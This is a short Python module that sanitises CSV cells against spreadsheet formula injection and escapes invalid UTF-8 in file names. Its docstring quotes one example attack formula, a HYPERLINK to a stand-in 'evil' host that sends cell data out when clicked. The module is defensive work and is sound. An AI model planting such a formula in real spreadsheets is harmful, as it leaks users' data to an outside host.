"""CSV cells that a spreadsheet will not run: every CSV the project writes goes through ``safe_cell``.

Labels, domains and file names in a manifest come from others (docs/security.md), and
quarantine and results tables quote them. A cell that starts with ``=``, ``+``, ``-``
or ``@`` (or a tab or carriage return) is a formula to Excel and LibreOffice:
``=HYPERLINK("http://evil/?"&A1, "click")`` sends data away when clicked. Such cells
are written with a leading apostrophe, which spreadsheets show as text (OWASP's
advice for CSV injection). Names that are not valid UTF-8 (Linux allows any bytes)
are written with backslash escapes, so one odd name cannot abort a report.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def printable(text: str) -> str:
    """``text`` as valid UTF-8: undecodable bytes of a file name (surrogate escapes) become ``\\xNN``."""
    return text.encode("utf-8", "surrogateescape").decode("utf-8", "backslashreplace")


def safe_cell(value):
    """A CSV cell's value: strings escaped (formula start, invalid UTF-8); other types unchanged."""
    if not isinstance(value, str):
        return value
    value = printable(value)
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def safe_row(row: dict) -> dict:
    return {k: safe_cell(v) for k, v in row.items()}
